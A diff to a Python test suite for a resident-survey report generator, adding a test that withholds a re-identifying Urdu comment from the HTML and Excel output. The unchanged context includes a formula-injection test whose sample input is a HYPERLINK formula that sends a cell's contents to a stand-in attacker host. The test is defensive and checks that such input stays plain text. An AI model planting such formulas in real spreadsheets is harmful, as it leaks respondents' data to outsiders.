@@ -303,6 +303,22 @@ def test_workbook_sheets_add_up(session, surveyed):
             assert sum(v for v in row[2:] if v is not None) == pytest.approx(1.0), name
 
 
+def test_a_reason_asked_only_of_the_dissatisfied_is_not_printed_in_a_small_language(session, surveyed):
+    """The only Urdu-speaking residents' reason for disagreeing on childcare (asked only after 3 or 4)
+    was printed under 「اردو (1)」 while every cross table by language was withheld: it told who
+    answered what. Such comments are withheld and counted; a general comment stays."""
+    reason = {**FOREIGN, "kosodate": 4, "kosodate_reason": "بچوں کے لیے پارک کم ہیں", "comment": "شکریہ"}
+    responses.bulk_complete(session, surveyed, [reason], channel="web", source="invited")
+    report = build_report(session, surveyed, "none", "ja")
+    assert report.comments_withheld == 1
+    page = html.unescape(render(report, "html").decode("utf-8"))
+    assert "بچوں کے لیے پارک کم ہیں" not in page and "شکریہ" in page
+    assert "条件付きの質問（特定の回答をした人にだけ尋ねる質問）への自由意見1件は掲載していません" in page
+    book = load_workbook(io.BytesIO(render(report, "xlsx")))
+    sheet = [str(c) for row in book["自由意見"].iter_rows(values_only=True) for c in row if c]
+    assert "بچوں کے لیے پارک کم ہیں" not in sheet and any("自由意見1件は掲載していません" in c for c in sheet)
+
+
 def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
     """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
     typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
